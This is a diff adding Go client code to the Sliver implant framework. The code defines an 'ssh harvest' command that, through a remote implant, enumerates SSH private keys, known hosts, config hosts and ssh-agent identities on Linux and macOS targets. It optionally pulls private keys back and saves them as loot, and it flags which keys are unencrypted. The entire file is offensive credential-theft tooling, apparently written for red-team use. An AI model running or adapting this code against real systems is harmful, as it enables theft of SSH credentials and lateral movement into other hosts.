@@ -0,0 +1,186 @@
+package exec
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"fmt"
+	"path/filepath"
+	"strings"
+
+	"github.com/bishopfox/sliver/client/command/help"
+	"github.com/bishopfox/sliver/client/command/loot"
+	"github.com/bishopfox/sliver/client/command/settings"
+	"github.com/bishopfox/sliver/client/console"
+	consts "github.com/bishopfox/sliver/client/constants"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/desertbit/grumble"
+	"github.com/jedib0t/go-pretty/v6/table"
+	"google.golang.org/protobuf/proto"
+)
+
+func init() {
+	help.RegisterOpsec(consts.SSHHarvestStr, &help.OpsecInfo{
+		Risk:      help.OpsecMedium,
+		Artifacts: []string{"reads of every readable ~/.ssh directory", "reads of /proc/*/environ (Linux)", "connections to the ssh agent sockets (unless --skip-agents)"},
+		Network:   "none, and the private keys with --loot",
+	})
+}
+
+// SSHHarvestCmd - Enumerate the ssh keys, known hosts and agents of a unix target
+func SSHHarvestCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	session, beacon := con.ActiveTarget.GetInteractive()
+	if session == nil && beacon == nil {
+		return
+	}
+	targetOS, hostname := "", ""
+	if session != nil {
+		targetOS, hostname = session.OS, session.Hostname
+	} else {
+		targetOS, hostname = beacon.OS, beacon.Hostname
+	}
+	if targetOS != "linux" && targetOS != "darwin" {
+		con.PrintErrorf("Command not supported on this operating system\n")
+		return
+	}
+
+	saveLoot := ctx.Flags.Bool("loot")
+	harvest, err := con.Rpc.SSHHarvest(context.Background(), &sliverpb.SSHHarvestReq{
+		User:    ctx.Flags.String("user"),
+		Keys:    saveLoot,
+		Agents:  !ctx.Flags.Bool("skip-agents"),
+		Request: con.ActiveTarget.Request(ctx),
+	})
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	if harvest.Response != nil && harvest.Response.Async {
+		con.AddBeaconCallback(harvest.Response.TaskID, func(task *clientpb.BeaconTask) {
+			err = proto.Unmarshal(task.Response, harvest)
+			if err != nil {
+				con.PrintErrorf("Failed to decode response %s\n", err)
+				return
+			}
+			PrintSSHHarvest(harvest, hostname, saveLoot, con)
+		})
+		con.PrintAsyncResponse(harvest.Response)
+	} else {
+		PrintSSHHarvest(harvest, hostname, saveLoot, con)
+	}
+}
+
+// PrintSSHHarvest - Print the ssh files and agents, private keys are optionally saved as loot
+func PrintSSHHarvest(harvest *sliverpb.SSHHarvest, hostname string, saveLoot bool, con *console.SliverConsoleClient) {
+	if harvest.Response != nil && harvest.Response.Err != "" {
+		con.PrintResponseErr(harvest.Response)
+		return
+	}
+	if len(harvest.Users) == 0 && len(harvest.Agents) == 0 {
+		con.PrintInfof("No ssh files or agents found\n")
+		return
+	}
+
+	hosts := []string{}
+	seen := map[string]bool{}
+	if 0 < len(harvest.Users) {
+		tw := table.NewWriter()
+		tw.SetStyle(settings.GetTableStyle(con))
+		tw.AppendHeader(table.Row{"User", "Type", "Path", "Key", "Fingerprint", "Details"})
+		for _, userKeys := range harvest.Users {
+			if userKeys.Error != "" {
+				tw.AppendRow(table.Row{userKeys.User, "", filepath.Join(userKeys.Home, ".ssh"), "", "", console.Red + userKeys.Error + console.Normal})
+			}
+			for _, keyFile := range userKeys.Files {
+				tw.AppendRow(table.Row{userKeys.User, keyFile.Type, keyFile.Path, keyFile.KeyType, keyFile.Fingerprint, keyFileDetails(keyFile)})
+				if keyFile.Type == "known_hosts" || keyFile.Type == "config" {
+					for _, host := range keyFile.Hosts {
+						if !seen[host] {
+							seen[host] = true
+							hosts = append(hosts, host)
+						}
+					}
+				}
+				if saveLoot && 0 < len(keyFile.Data) {
+					name := fmt.Sprintf("ssh key %s@%s %s", userKeys.User, hostname, filepath.Base(keyFile.Path))
+					err := loot.AddLootFile(con.Rpc, name, keyFile.Path, keyFile.Data, true)
+					if err != nil {
+						con.PrintErrorf("Failed to save %s as loot: %s\n", name, err)
+					}
+				}
+			}
+		}
+		con.Printf("%s\n", tw.Render())
+	}
+
+	if 0 < len(harvest.Agents) {
+		con.Println()
+		tw := table.NewWriter()
+		tw.SetStyle(settings.GetTableStyle(con))
+		tw.AppendHeader(table.Row{"Agent Socket", "Owner", "Pid", "Key", "Fingerprint", "Comment"})
+		for _, sshAgent := range harvest.Agents {
+			pid := ""
+			if sshAgent.Pid != 0 {
+				pid = fmt.Sprintf("%d", sshAgent.Pid)
+			}
+			if sshAgent.Error != "" {
+				tw.AppendRow(table.Row{sshAgent.Socket, sshAgent.Owner, pid, "", "", console.Red + sshAgent.Error + console.Normal})
+				continue
+			}
+			if len(sshAgent.Identities) == 0 {
+				tw.AppendRow(table.Row{sshAgent.Socket, sshAgent.Owner, pid, "", "", "(no identities)"})
+			}
+			for _, identity := range sshAgent.Identities {
+				tw.AppendRow(table.Row{sshAgent.Socket, sshAgent.Owner, pid, identity.KeyType, identity.Fingerprint, identity.Comment})
+			}
+		}
+		con.Printf("%s\n", tw.Render())
+	}
+
+	if 0 < len(hosts) {
+		con.Println()
+		con.PrintInfof("Known hosts: %s\n", strings.Join(hosts, ", "))
+	}
+}
+
+func keyFileDetails(keyFile *sliverpb.SSHKeyFile) string {
+	if keyFile.Error != "" {
+		return console.Red + keyFile.Error + console.Normal
+	}
+	switch keyFile.Type {
+	case "private":
+		if keyFile.Encrypted {
+			return "encrypted"
+		}
+		return console.Bold + "unencrypted" + console.Normal
+	case "public":
+		return keyFile.Comment
+	case "authorized_keys":
+		return strings.Join(keyFile.Hosts, ", ")
+	case "known_hosts":
+		if 0 < keyFile.HashedHosts {
+			return fmt.Sprintf("%d hosts (%d hashed)", len(keyFile.Hosts), keyFile.HashedHosts)
+		}
+		return fmt.Sprintf("%d hosts", len(keyFile.Hosts))
+	case "config":
+		return fmt.Sprintf("%d hosts", len(keyFile.Hosts))
+	}
+	return ""
+}